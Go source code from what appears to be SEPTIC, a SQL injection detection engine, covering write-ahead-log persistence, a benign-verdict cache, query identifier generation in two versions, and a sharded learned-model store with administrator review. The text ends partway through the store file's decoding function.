// Stats snapshots the durability counters.
func (p *Persistence) Stats() PersistenceStats {
	return PersistenceStats{
		WAL:               p.log.Stats(),
		RecoveredRecords:  p.recoveredRecords.Load(),
		RecoveredSkipped:  p.recoveredSkipped.Load(),
		TornSegments:      p.tornSegments.Load(),
		DroppedRecords:    p.droppedRecords.Load(),
		RecoveryDuration:  time.Duration(p.recoveryNanos.Load()),
		Checkpoints:       p.checkpoints.Load(),
		CheckpointFaults:  p.checkpointFaults.Load(),
		LastCheckpointSeq: p.lastCheckpointSeq.Load(),
		AppendErrors:      p.appendErrors.Load(),
	}
}

// Err surfaces the WAL's sticky failure, nil while durability is
// healthy.
func (p *Persistence) Err() error { return p.log.Err() }

// Close stops the checkpointer and closes the log. It does NOT take a
// final checkpoint — callers that want one (septicd's shutdown path
// does) call Checkpoint first, so tests can also exercise the
// crash-without-checkpoint path.
func (p *Persistence) Close() error {
	if p.closed.Swap(true) {
		return fmt.Errorf("persistence already closed")
	}
	if p.stopc != nil {
		close(p.stopc)
		<-p.cpDone
	}
	return p.log.Close()
}

// Kill simulates process death for crash tests: the checkpointer stops
// and the WAL's descriptors — including the directory lock — are
// released without flushing anything, exactly as the kernel reaps them
// when a process dies. The files are left as the last write and the
// fsync policy left them. See wal.(*Log).Kill.
func (p *Persistence) Kill() {
	if p.closed.Swap(true) {
		return
	}
	if p.stopc != nil {
		close(p.stopc)
		<-p.cpDone
	}
	p.log.Kill()
}

// ReplAppliedSeq is the replica resume floor: the highest upstream
// replication sequence this store has made locally durable, recovered at
// attach from the checkpoint's ReplSeq and the maximum RSeq replayed
// from the WAL tail. A restarted replica subscribes from here instead of
// re-requesting the full snapshot.
func (p *Persistence) ReplAppliedSeq() uint64 { return p.replSeq.Load() }

// ReplSnapshot captures an in-memory snapshot of every domain for
// streaming to a replica, without writing or trimming anything locally.
// The returned barrier is the WAL sequence read BEFORE the stores were
// snapshotted — the same barrier argument Checkpoint relies on: every
// record at or below it is reflected in the snapshot, so a replica that
// installs the snapshot and then follows the stream from the barrier
// misses nothing (records landing during the snapshot may be included
// AND replayed; replay is idempotent). The payload is a checkpointFile,
// so the replica installs it through the same decode/verify/restore
// path boot uses.
func (p *Persistence) ReplSnapshot() (uint64, []byte, error) {
	barrier := p.log.LastSeq()
	cp := checkpointFile{
		Version: checkpointVersion,
		WALSeq:  barrier,
		ReplSeq: barrier,
		Domains: make(map[string]checkpointDomain),
	}
	for _, d := range p.sep.Domains() {
		cp.Domains[d.name] = checkpointDomain{
			Config: toPersistedConfig(d.Config()),
			Sets:   d.store.snapshotSets(),
		}
	}
	data, err := json.Marshal(&cp)
	if err != nil {
		return 0, nil, fmt.Errorf("persistence: encode snapshot: %w", err)
	}
	return barrier, data, nil
}

// ReplReadFrom reads WAL records with sequence > after for replication
// catch-up. See wal.(*Log).ReadFrom for the gap semantics (a trimmed
// prefix surfaces as a sequence jump the caller must detect).
func (p *Persistence) ReplReadFrom(after uint64, maxBytes int) ([]wal.Record, error) {
	return p.log.ReadFrom(after, maxBytes)
}

// ReplWatch subscribes to the live WAL tail. Subscribe BEFORE the
// catch-up read so no record can fall between the two.
func (p *Persistence) ReplWatch(buf int) *wal.Watcher { return p.log.Watch(buf) }

// ReplLastSeq is the newest WAL sequence, the replication stream's head.
func (p *Persistence) ReplLastSeq() uint64 { return p.log.LastSeq() }

// registerGauges exports the durability counters as wal.* metrics.
func (p *Persistence) registerGauges(m *obs.Registry) {
	m.GaugeFunc("wal.appends", func() int64 { return p.log.Stats().Appends })
	m.GaugeFunc("wal.append_errors", p.appendErrors.Load)
	m.GaugeFunc("wal.fsyncs", func() int64 { return p.log.Stats().Fsyncs })
	m.GaugeFunc("wal.rotations", func() int64 { return p.log.Stats().Rotations })
	m.GaugeFunc("wal.trimmed_segments", func() int64 { return p.log.Stats().Trimmed })
	m.GaugeFunc("wal.last_seq", func() int64 { return int64(p.log.Stats().LastSeq) })
	m.GaugeFunc("wal.recovered", p.recoveredRecords.Load)
	m.GaugeFunc("wal.recovered_skipped", p.recoveredSkipped.Load)
	m.GaugeFunc("wal.torn_segments", p.tornSegments.Load)
	m.GaugeFunc("wal.torn_dropped", p.droppedRecords.Load)
	m.GaugeFunc("wal.checkpoints", p.checkpoints.Load)
	m.GaugeFunc("wal.checkpoint_faults", p.checkpointFaults.Load)
	m.GaugeFunc("wal.last_checkpoint_seq", func() int64 { return int64(p.lastCheckpointSeq.Load()) })
	m.GaugeFunc("wal.recovery_ms", func() int64 {
		return p.recoveryNanos.Load() / int64(time.Millisecond)
	})
}
