package core

import (
	"sync/atomic"

	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/txtcache"
)

// DefaultVerdictCacheCapacity bounds the verdict cache when the
// deployment does not choose its own size. Sized like the engine's parse
// cache: a web application's working set of distinct query texts is
// small (Fig. 5's workloads issue a handful of shapes), so 4096 entries
// hold it with room for parameter churn.
const DefaultVerdictCacheCapacity = 4096

// verdict is one memoized outcome of the full BeforeExecute pipeline for
// a byte-exact decoded query text: the identifier that text produced,
// whether detection actually ran (checked) or the query was merely looked
// up (NN configuration, or unknown identifier without incremental
// learning), and the store record backing the hit so repeat executions
// keep usage accounting exact.
//
// Only benign outcomes are cached. Attacks are never memoized: every
// occurrence must be detected, logged, and (in prevention mode) blocked
// on its own, so the attack path always runs the full pipeline.
type verdict struct {
	id      string
	checked bool
	// set is the store record for id at verdict time; nil when the
	// identifier was unknown (NN or no-incremental-learning paths). Safe
	// to retain across Deletes because a Delete bumps the store
	// generation, which invalidates this entry before the set could be
	// used again.
	set *modelSet
	// cfgGen and storeGen stamp the generations observed *before* the
	// verdict was computed. If either counter has moved, configuration or
	// learned knowledge may have changed mid-computation or since, and
	// the entry is stale.
	cfgGen   uint64
	storeGen uint64
}

// verdictCache memoizes benign verdicts keyed by exact decoded query
// text, with generation-stamped self-invalidation (no explicit flush:
// stale entries are simply never served, and eviction recycles them).
type verdictCache struct {
	cache *txtcache.Cache[*verdict]
	// invalidations counts lookups that found an entry whose generation
	// stamps were stale. They surface in stats as misses (the pipeline
	// runs in full) but are reported separately: a high rate means the
	// store or configuration is churning under the cache.
	invalidations atomic.Int64
	// obs receives a KindCache event per invalidation; nil disables. Set
	// once at construction (core.New), before the cache is shared.
	obs *obs.Hub
}

// CacheStats reports verdict-cache effectiveness counters.
type CacheStats struct {
	// Hits counts lookups served from a fresh cached verdict.
	Hits int64
	// Misses counts lookups that ran the full pipeline: unseen text,
	// evicted entries, and stale (invalidated) entries.
	Misses int64
	// Evictions counts entries recycled by the capacity bound.
	Evictions int64
	// Invalidations counts the subset of Misses caused by generation
	// staleness (mode/config change or model-store mutation).
	Invalidations int64
	// Entries is the current number of cached verdicts.
	Entries int
	// Brownouts counts the subset of Misses answered by the domain's
	// fail policy instead of the detection pipeline because the
	// detection breaker was open (cache hits keep being served).
	Brownouts int64
}

// add accumulates another snapshot (per-domain partition aggregation).
func (s *CacheStats) add(o CacheStats) {
	s.Hits += o.Hits
	s.Misses += o.Misses
	s.Evictions += o.Evictions
	s.Invalidations += o.Invalidations
	s.Entries += o.Entries
	s.Brownouts += o.Brownouts
}

// newVerdictCache builds a cache bounded to capacity entries; capacity 0
// disables caching (every lookup misses, inserts are dropped).
func newVerdictCache(capacity int) *verdictCache {
	return &verdictCache{cache: txtcache.New[*verdict](capacity)}
}

// setObserver installs the hub invalidation events are published to.
// Must be called before the cache is shared (core.New does).
func (c *verdictCache) setObserver(h *obs.Hub) {
	c.obs = h
}

// lookup returns the cached verdict for text if it is stamped with the
// current generations. A stale entry counts as an invalidation and a
// miss; the caller recomputes and re-inserts, overwriting the stale
// entry in place.
func (c *verdictCache) lookup(text string, cfgGen, storeGen uint64) (*verdict, bool) {
	v, ok := c.cache.Get(text)
	if !ok {
		return nil, false
	}
	if v.cfgGen != cfgGen || v.storeGen != storeGen {
		c.invalidations.Add(1)
		if c.obs != nil {
			cause := "store generation moved"
			if v.cfgGen != cfgGen {
				cause = "configuration generation moved"
			}
			c.obs.Publish(obs.Event{Kind: obs.KindCache, QueryID: v.id,
				Detail: "cached verdict invalidated: " + cause})
		}
		return nil, false
	}
	return v, true
}

// insert memoizes a benign verdict computed against the given generation
// stamps. The stamps must have been read BEFORE the pipeline ran: if a
// mutation landed mid-computation the current generation differs from
// the stamp and the entry self-invalidates on its first lookup.
func (c *verdictCache) insert(text string, v *verdict) {
	c.cache.Put(text, v)
}

// stats snapshots the counters. Hits from the underlying text cache
// include stale entries that were then invalidated; those are reclassified
// as misses so Hits counts only verdicts actually served.
func (c *verdictCache) stats() CacheStats {
	s := c.cache.Stats()
	inv := c.invalidations.Load()
	return CacheStats{
		Hits:          s.Hits - inv,
		Misses:        s.Misses + inv,
		Evictions:     s.Evictions,
		Invalidations: inv,
		Entries:       s.Entries,
	}
}
