package core

import (
	"strconv"
	"strings"

	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

// IDGenerator produces query identifiers (paper §II-C2). An identifier
// is the concatenation of two parts:
//
//   - The external identifier, optionally supplied by the application or
//     its server-side language engine inside a leading SQL comment
//     ("/* external identifier */ SELECT ..."). It is free-form text
//     chosen by the programmer.
//   - The internal identifier, computed by SEPTIC itself from the
//     query's skeleton — statement kind, target tables and column lists —
//     i.e. the parts of the query an injection into a data value cannot
//     change. Hashing the full structure would be self-defeating: an
//     attacked query would hash to an unknown ID and look like a *new*
//     query instead of failing the comparison against its model.
//
// When no external identifier is present, the ID is just the internal
// part.
type IDGenerator struct {
	// UseExternal controls whether comment-borne external identifiers
	// participate in the ID (the ablation benchmarks toggle this).
	UseExternal bool
}

// NewIDGenerator returns a generator with external identifiers enabled,
// the paper's default ("one of these identifiers may be optionally
// provided by the application").
func NewIDGenerator() *IDGenerator {
	return &IDGenerator{UseExternal: true}
}

// ID computes the query identifier for a validated statement.
func (g *IDGenerator) ID(stmt sqlparser.Statement, comments []string) string {
	internal := g.internal(stmt)
	if !g.UseExternal {
		return internal
	}
	if ext := ExternalID(comments); ext != "" {
		return ext + "#" + internal
	}
	return internal
}

// internal hashes the statement skeleton to a fixed-width hex token. The
// skeleton is streamed into the hash (qstruct.SkeletonHash), so the only
// allocation is the identifier string itself; the token bytes are
// identical to the former materialize-then-hash path, keeping persisted
// model stores valid.
func (g *IDGenerator) internal(stmt sqlparser.Statement) string {
	var buf [17]byte // 'q' + up to 16 hex digits
	buf[0] = 'q'
	return string(strconv.AppendUint(buf[:1], qstruct.SkeletonHash(stmt), 16))
}

// MaxExternalIDLen bounds the accepted external identifier (after
// trimming). The bound exists for two reasons: identifiers are store
// keys and metric labels, so an attacker-influenced comment must not be
// able to balloon them; and the verdict-cache/domain router does byte
// scans over the identifier on the hot path, which the bound keeps O(1)
// in practice.
const MaxExternalIDLen = 128

// ExternalID extracts the application-supplied external identifier from
// a statement's comments: the body of the first comment, trimmed. An
// empty string means the application supplied none — either because
// there was no comment or because the comment body is MALFORMED as an
// identifier and is rejected outright:
//
//   - embedded newlines or any other control byte (< 0x20, or DEL): a
//     multi-line comment is commentary, not an identifier, and control
//     bytes would corrupt the single-line event register and audit log
//     where identifiers are printed verbatim;
//   - oversized bodies (> MaxExternalIDLen after trimming): see the
//     constant.
//
// Rejection deliberately degrades to "no external identifier": the
// query still gets its internal skeleton-hash identifier and full
// protection, it just loses the optional programmer-supplied label —
// the paper's semantics for applications that supply none. (Unterminated
// /* comments never reach here: the parser rejects the whole statement
// before the hook runs.)
func ExternalID(comments []string) string {
	if len(comments) == 0 {
		return ""
	}
	ext := strings.TrimSpace(comments[0])
	if len(ext) > MaxExternalIDLen {
		return ""
	}
	for i := 0; i < len(ext); i++ {
		if c := ext[i]; c < 0x20 || c == 0x7f {
			return ""
		}
	}
	return ext
}

// AppPrefix returns the application prefix of an external identifier —
// the text before the first ':' in the "/* app:query-id */" convention
// the paper's four demo applications use — or "" when the identifier
// carries no prefix. The result aliases ext (a substring), so calling it
// on the hot path allocates nothing.
func AppPrefix(ext string) string {
	if i := strings.IndexByte(ext, ':'); i > 0 {
		return ext[:i]
	}
	return ""
}
