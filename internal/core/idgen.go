package core

import (
	"strconv"
	"strings"

	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

// IDGenerator produces query identifiers (paper §II-C2). An identifier
// is the concatenation of two parts:
//
//   - The external identifier, optionally supplied by the application or
//     its server-side language engine inside a leading SQL comment
//     ("/* external identifier */ SELECT ..."). It is free-form text
//     chosen by the programmer.
//   - The internal identifier, computed by SEPTIC itself from the
//     query's skeleton — statement kind, target tables and column lists —
//     i.e. the parts of the query an injection into a data value cannot
//     change. Hashing the full structure would be self-defeating: an
//     attacked query would hash to an unknown ID and look like a *new*
//     query instead of failing the comparison against its model.
//
// When no external identifier is present, the ID is just the internal
// part.
type IDGenerator struct {
	// UseExternal controls whether comment-borne external identifiers
	// participate in the ID (the ablation benchmarks toggle this).
	UseExternal bool
}

// NewIDGenerator returns a generator with external identifiers enabled,
// the paper's default ("one of these identifiers may be optionally
// provided by the application").
func NewIDGenerator() *IDGenerator {
	return &IDGenerator{UseExternal: true}
}

// ID computes the query identifier for a validated statement.
func (g *IDGenerator) ID(stmt sqlparser.Statement, comments []string) string {
	internal := g.internal(stmt)
	if !g.UseExternal {
		return internal
	}
	if ext := ExternalID(comments); ext != "" {
		return ext + "#" + internal
	}
	return internal
}

// internal hashes the statement skeleton to a fixed-width hex token. The
// skeleton is streamed into the hash (qstruct.SkeletonHash), so the only
// allocation is the identifier string itself; the token bytes are
// identical to the former materialize-then-hash path, keeping persisted
// model stores valid.
func (g *IDGenerator) internal(stmt sqlparser.Statement) string {
	var buf [17]byte // 'q' + up to 16 hex digits
	buf[0] = 'q'
	return string(strconv.AppendUint(buf[:1], qstruct.SkeletonHash(stmt), 16))
}

// ExternalID extracts the application-supplied external identifier from
// a statement's comments: the body of the first comment, trimmed. An
// empty string means the application supplied none.
func ExternalID(comments []string) string {
	if len(comments) == 0 {
		return ""
	}
	return strings.TrimSpace(comments[0])
}
