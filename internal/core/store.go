package core

import (
	"bytes"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"os"
	"sort"
	"sync"
	"sync/atomic"

	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/wal"
)

// Store is the "QM learned" store of Fig. 1: learned query models keyed
// by query identifier, held in memory and persisted to disk so models
// survive a DBMS restart (demo phase D: "the persistent query models
// are loaded").
//
// Extensions over the paper's prototype:
//
//   - Model sets: the store keeps a SET of models per identifier.
//     Applications legitimately issue structural variants under one
//     identifier (the canonical case is a sort selector); a query
//     conforms if it matches ANY learned model. The paper's single-model
//     behaviour is the degenerate one-element set.
//   - Provenance and usage: each identifier records whether it was
//     learned during deliberate training or incrementally in normal mode
//     — the paper's §II-E requires "the programmer/administrator will
//     have to decide if the query model comes from a malicious or a
//     benign query", and PendingReview is exactly that work list — plus
//     a hit counter for usage-based triage.
//
// The store is safe for concurrent use by many sessions, and built so
// the hot path (Get on a known identifier) never contends across
// sessions: identifiers are partitioned into shards, each with its own
// RWMutex, and the per-identifier model sets are copy-on-write — Get
// returns the shared immutable slice without copying, and Put publishes
// a freshly built slice instead of appending in place.
type Store struct {
	shards [storeShardCount]storeShard

	// gen counts mutations (Put of a new model, Delete, Load). The verdict
	// cache stamps entries with the generation observed *before* computing
	// a verdict; a bump means learned knowledge changed, so any entry with
	// an older stamp is stale. Writers mutate first, then bump — a reader
	// that loaded the pre-bump generation computed against at-most-old
	// state and its entry is correctly invalidated by the bump.
	gen atomic.Uint64

	// obs receives a KindStore event for every mutation; nil disables.
	// Set once at construction (core.New), before the store is shared.
	obs *obs.Hub

	// sink, when installed (Persistence.bind), receives every mutation
	// as a WAL record BEFORE it is published in memory, while the shard
	// lock is held. The lock-held ordering is what makes checkpoints
	// consistent: any record the checkpointer's sequence-number barrier
	// covers has finished publishing by the time the checkpointer can
	// acquire the shard (see Persistence.Checkpoint). Installed before
	// the store serves traffic; nil disables durability.
	sink func(rec *walRecord) error

	// readOnly refuses local mutations (Put/Delete/Approve) while the
	// store is fed by a replication stream: on a replica the only writer
	// is the applier (ReplicaState), which goes through the replay*
	// methods and is exempt. Cleared by ReplicaState.Promote on
	// failover.
	readOnly atomic.Bool
}

// storeShardCount partitions identifiers so unrelated sessions rarely
// touch the same lock. A modest power of two: the per-shard critical
// sections are a map lookup, so the win is cacheline, not hold time.
const storeShardCount = 16

// storeShard is one lock domain of the identifier space.
type storeShard struct {
	mu     sync.RWMutex
	models map[string]*modelSet
}

// modelSet is the per-identifier record.
type modelSet struct {
	// models is copy-on-write: the slice and its backing array are never
	// mutated after publication, so readers may hold it lock-free.
	models []qstruct.Model
	// hits counts lookups.
	hits atomic.Int64
	// incremental marks identifiers first seen outside training mode.
	incremental bool
}

// Usage summarizes one identifier for administrative review.
type Usage struct {
	ID     string
	Models int
	Hits   int64
	// Incremental is true until an administrator approves the
	// identifier (or it was learned in training mode to begin with).
	Incremental bool
}

// NewStore creates an empty model store.
func NewStore() *Store {
	s := &Store{}
	for i := range s.shards {
		s.shards[i].models = make(map[string]*modelSet)
	}
	return s
}

// shard returns the lock domain owning id.
func (s *Store) shard(id string) *storeShard {
	h := fnv.New32a()
	_, _ = h.Write([]byte(id))
	return &s.shards[h.Sum32()%storeShardCount]
}

// SetObserver installs the observability hub the store publishes
// mutation events to. Must be called before the store is shared across
// goroutines (core.New does).
func (s *Store) SetObserver(h *obs.Hub) {
	s.obs = h
}

// Generation returns the store's mutation counter. It changes whenever
// learned knowledge changes (new model stored, identifier deleted, store
// reloaded) and never otherwise.
func (s *Store) Generation() uint64 {
	return s.gen.Load()
}

// ModelView is a read-only view of one identifier's learned models. The
// store's per-identifier slices are copy-on-write and SHARED between
// every session (and, with protection domains, handed across the
// detector seam); the view type makes the read-only contract structural
// instead of a comment — callers outside the package cannot reach the
// backing array at all, so one domain's caller can never mutate models
// another domain (or another session) is concurrently comparing
// against. The view is a single-word wrapper around the slice header:
// constructing and copying it allocates nothing, keeping Get on the hot
// path alloc-free.
type ModelView struct {
	models []qstruct.Model
}

// ViewOf builds a ModelView over copies of the given models — the
// test-and-tooling constructor for exercising the detector directly.
// The models are cloned so later mutation of the arguments cannot reach
// the view, mirroring the store's immutability guarantee.
func ViewOf(models ...qstruct.Model) ModelView {
	cp := make([]qstruct.Model, len(models))
	copy(cp, models)
	return ModelView{models: cp}
}

// Len returns the number of models in the view.
func (v ModelView) Len() int { return len(v.models) }

// Empty reports whether the view holds no models.
func (v ModelView) Empty() bool { return len(v.models) == 0 }

// At returns the i-th model. The Model is returned by value; its Nodes
// slice is shared and must be treated as read-only, like every
// qstruct.Model.
func (v ModelView) At(i int) qstruct.Model { return v.models[i] }

// Get returns a read-only view of the models learned for id and counts
// the hit. The view is backed by the shared copy-on-write slice:
// successive Puts never change a view a previous Get returned.
func (s *Store) Get(id string) (ModelView, bool) {
	models, _, ok := s.getSet(id)
	return models, ok
}

// getSet is Get plus the identifier's internal record, which the verdict
// cache retains so repeated hits keep the usage counters exact without
// re-walking the map.
func (s *Store) getSet(id string) (ModelView, *modelSet, bool) {
	sh := s.shard(id)
	sh.mu.RLock()
	set, ok := sh.models[id]
	if !ok {
		sh.mu.RUnlock()
		return ModelView{}, nil, false
	}
	models := set.models
	sh.mu.RUnlock()
	set.hits.Add(1)
	return ModelView{models: models}, set, true
}

// Put stores a model for id, recording whether it was learned
// incrementally (normal mode) rather than during training. It reports
// whether the model was new: a model with an identical fingerprint is
// never re-added (paper §IV-C: "the query model is created and stored
// only once").
//
// With durability attached, the record is appended to the write-ahead
// log BEFORE the model is published in memory, and a failed append
// refuses the whole Put (returns false, nothing published): memory is
// never ahead of the log for additions, so a crash can lose only
// updates that were never acknowledged. The retry is free — the next
// occurrence of the same query learns it again.
func (s *Store) Put(id string, m qstruct.Model, incremental bool) bool {
	if s.readOnly.Load() {
		return false
	}
	fp := m.Fingerprint()
	sh := s.shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	set, ok := sh.models[id]
	if ok {
		for _, existing := range set.models {
			if existing.Fingerprint() == fp {
				return false
			}
		}
	}
	if s.sink != nil {
		if err := s.sink(&walRecord{Op: opPut, ID: id, Model: &m, Sum: fp, Inc: incremental}); err != nil {
			return false
		}
	}
	if !ok {
		set = &modelSet{incremental: incremental}
		sh.models[id] = set
	}
	s.publish(set, m, incremental)
	if s.obs != nil {
		detail := fmt.Sprintf("model stored (%d nodes, %d model(s) for id)",
			len(m.Nodes), len(set.models))
		if incremental {
			detail += ", incremental — pending review"
		}
		s.obs.Publish(obs.Event{Kind: obs.KindStore, QueryID: id, Detail: detail})
	}
	return true
}

// publish appends m to set copy-on-write and bumps the store
// generation. Caller holds the shard lock and has already deduplicated.
func (s *Store) publish(set *modelSet, m qstruct.Model, incremental bool) {
	// Copy-on-write: publish a new slice so concurrent readers keep a
	// consistent view of the one they already fetched.
	next := make([]qstruct.Model, len(set.models)+1)
	copy(next, set.models)
	next[len(set.models)] = m
	set.models = next
	if incremental {
		set.incremental = true
	}
	// Bump after publishing (still under the shard lock): a verdict cached
	// against the pre-bump generation is invalidated, and any reader that
	// already sees the new generation also sees the new model slice.
	s.gen.Add(1)
}

// replayPut applies a recovered put record: Put minus the sink (the
// record is already in the log) and minus the boot-time event noise.
// Deduplication still applies, which is what makes replay over a
// checkpoint that may already contain the record idempotent.
func (s *Store) replayPut(id string, m qstruct.Model, incremental bool) {
	fp := m.Fingerprint()
	sh := s.shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	set, ok := sh.models[id]
	if ok {
		for _, existing := range set.models {
			if existing.Fingerprint() == fp {
				return
			}
		}
	} else {
		set = &modelSet{incremental: incremental}
		sh.models[id] = set
	}
	s.publish(set, m, incremental)
}

// Delete removes every model learned for id (administrator review
// rejecting a poisoned identifier). Unlike Put, a failed durability
// append does NOT refuse the delete: removing a model only narrows what
// the detector accepts, so applying it in memory is the conservative
// choice — the worst a crash can do is resurrect the identifier, which
// the pending-review list resurfaces. The failure is still counted and
// logged by the persistence layer.
func (s *Store) Delete(id string) {
	if s.readOnly.Load() {
		return
	}
	sh := s.shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if _, ok := sh.models[id]; !ok {
		return
	}
	if s.sink != nil {
		_ = s.sink(&walRecord{Op: opDelete, ID: id})
	}
	delete(sh.models, id)
	s.gen.Add(1)
	s.obs.Publish(obs.Event{Kind: obs.KindStore, QueryID: id, Detail: "identifier deleted"})
}

// replayDelete applies a recovered delete record.
func (s *Store) replayDelete(id string) {
	sh := s.shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if _, ok := sh.models[id]; !ok {
		return
	}
	delete(sh.models, id)
	s.gen.Add(1)
}

// Approve clears an identifier's incremental flag: the administrator
// reviewed the query and deemed it benign. Like Delete, a failed
// durability append is counted but does not refuse the approval (the
// crash-worst-case is the identifier reappearing on the review list).
func (s *Store) Approve(id string) bool {
	if s.readOnly.Load() {
		return false
	}
	sh := s.shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	set, ok := sh.models[id]
	if !ok {
		return false
	}
	if s.sink != nil {
		_ = s.sink(&walRecord{Op: opApprove, ID: id})
	}
	set.incremental = false
	s.obs.Publish(obs.Event{Kind: obs.KindStore, QueryID: id, Detail: "identifier approved"})
	return true
}

// replayApprove applies a recovered approve record.
func (s *Store) replayApprove(id string) {
	sh := s.shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if set, ok := sh.models[id]; ok {
		set.incremental = false
	}
}

// setSink installs the durability sink. Must be called before the store
// serves traffic (Persistence attach does, at boot).
func (s *Store) setSink(sink func(rec *walRecord) error) {
	s.sink = sink
}

// setReadOnly flips the local-mutation gate (see the readOnly field).
func (s *Store) setReadOnly(v bool) {
	s.readOnly.Store(v)
}

// ReadOnly reports whether local mutations are refused (replica mode).
func (s *Store) ReadOnly() bool {
	return s.readOnly.Load()
}

// PendingReview lists the identifiers learned incrementally and not yet
// approved — the administrator's §II-E work list — sorted.
func (s *Store) PendingReview() []string {
	var out []string
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		for id, set := range sh.models {
			if set.incremental {
				out = append(out, id)
			}
		}
		sh.mu.RUnlock()
	}
	sort.Strings(out)
	return out
}

// UsageReport returns per-identifier usage, sorted by descending hits
// then id — the triage view for the administrator.
func (s *Store) UsageReport() []Usage {
	var out []Usage
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		for id, set := range sh.models {
			out = append(out, Usage{
				ID:          id,
				Models:      len(set.models),
				Hits:        set.hits.Load(),
				Incremental: set.incremental,
			})
		}
		sh.mu.RUnlock()
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Hits != out[j].Hits {
			return out[i].Hits > out[j].Hits
		}
		return out[i].ID < out[j].ID
	})
	return out
}

// Len returns the number of known query identifiers.
func (s *Store) Len() int {
	n := 0
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		n += len(sh.models)
		sh.mu.RUnlock()
	}
	return n
}

// ModelCount returns the total number of learned models across all
// identifiers (≥ Len when variants exist).
func (s *Store) ModelCount() int {
	n := 0
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		for _, set := range sh.models {
			n += len(set.models)
		}
		sh.mu.RUnlock()
	}
	return n
}

// IDs returns the learned query identifiers, sorted.
func (s *Store) IDs() []string {
	var out []string
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		for id := range sh.models {
			out = append(out, id)
		}
		sh.mu.RUnlock()
	}
	sort.Strings(out)
	return out
}

// DumpEntry is one identifier's record rendered for live introspection
// (the /qm endpoint): the models as paper-style top-down item stacks,
// plus the review/usage metadata.
type DumpEntry struct {
	ID          string `json:"id"`
	Hits        int64  `json:"hits"`
	Incremental bool   `json:"incremental"`
	// Models holds each learned model as its node stack, top of stack
	// first, one "CATEGORY data" string per node — the rendering of the
	// paper's Figs. 2–4 (data nodes show ⊥).
	Models [][]string `json:"models"`
}

// Dump renders the whole store for live introspection, sorted by id.
// It formats every node, so it is strictly an operator endpoint — never
// called on the query path.
func (s *Store) Dump() []DumpEntry {
	var out []DumpEntry
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		for id, set := range sh.models {
			e := DumpEntry{
				ID:          id,
				Hits:        set.hits.Load(),
				Incremental: set.incremental,
				Models:      make([][]string, len(set.models)),
			}
			for mi, m := range set.models {
				nodes := make([]string, len(m.Nodes))
				for ni := range m.Nodes {
					// Top-down, as the figures draw the stack.
					nodes[ni] = m.Nodes[len(m.Nodes)-1-ni].String()
				}
				e.Models[mi] = nodes
			}
			out = append(out, e)
		}
		sh.mu.RUnlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// persistedSet is the on-disk form of one identifier's record.
type persistedSet struct {
	Models      []qstruct.Model `json:"models"`
	Sums        []uint64        `json:"sums"`
	Hits        int64           `json:"hits"`
	Incremental bool            `json:"incremental,omitempty"`
}

// storeFile is the persisted JSON layout.
type storeFile struct {
	Version int                     `json:"version"`
	Sets    map[string]persistedSet `json:"sets"`
}

const storeVersion = 3

// maxPersistedSetBytes bounds one identifier's encoded record in a
// persisted store file. A record past this is either corruption or an
// attempt to balloon the store through the load path; Load rejects it
// with a descriptive error instead of silently accepting it.
const maxPersistedSetBytes = 1 << 20

// snapshotSets serializes the store's current contents, with per-model
// fingerprints for integrity checking. Fingerprints are cached in the
// models themselves, so a snapshot is pure serialization — no
// re-hashing. Each shard is read under its lock, which (combined with
// the sink-under-lock append protocol) is what makes the checkpoint
// barrier sound: every record the barrier covers is visible here.
func (s *Store) snapshotSets() map[string]persistedSet {
	sets := make(map[string]persistedSet)
	for i := range s.shards {
		sh := &s.shards[i]
		sh.mu.RLock()
		for id, set := range sh.models {
			p := persistedSet{
				// The model slice is immutable, so it can be serialized
				// as-is without a defensive copy.
				Models:      set.models,
				Sums:        make([]uint64, len(set.models)),
				Hits:        set.hits.Load(),
				Incremental: set.incremental,
			}
			for i, m := range set.models {
				p.Sums[i] = m.Fingerprint()
			}
			sets[id] = p
		}
		sh.mu.RUnlock()
	}
	return sets
}

// Save writes the learned models to path atomically: temp file, fsync,
// rename over the target, directory fsync (wal.WriteFileAtomic). A
// crash at any point — the kill points around the write and the rename
// are exercised by TestStoreSaveCrashKeepsOldSnapshot — leaves either
// the previous snapshot or the new one, never a torn mixture and never
// a missing file.
func (s *Store) Save(path string) error {
	file := storeFile{
		Version: storeVersion,
		Sets:    s.snapshotSets(),
	}
	data, err := json.MarshalIndent(&file, "", "  ")
	if err != nil {
		return fmt.Errorf("encode model store: %w", err)
	}
	faultinject.Hit(faultinject.SiteStoreSave)
	if ierr := faultinject.HitErr(faultinject.SiteStoreSave); ierr != nil {
		return fmt.Errorf("write model store: %w", ierr)
	}
	if err := wal.WriteFileAtomic(path, data, 0o644); err != nil {
		return fmt.Errorf("write model store: %w", err)
	}
	return nil
}

// decodeStoreFile parses a persisted store, enforcing what a plain
// json.Unmarshal silently forgives: a duplicate identifier key (the
// last one would win, quietly dropping models) and an oversized record
// (> maxPersistedSetBytes) are both rejected with descriptive errors.
func decodeStoreFile(data []byte) (*storeFile, error) {
	dec := json.NewDecoder(bytes.NewReader(data))
	if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
		return nil, fmt.Errorf("not a JSON object (%v)", err)
	}
	file := &storeFile{Sets: make(map[string]persistedSet)}
	for dec.More() {
		keyTok, err := dec.Token()
		if err != nil {
			return nil, err
		}
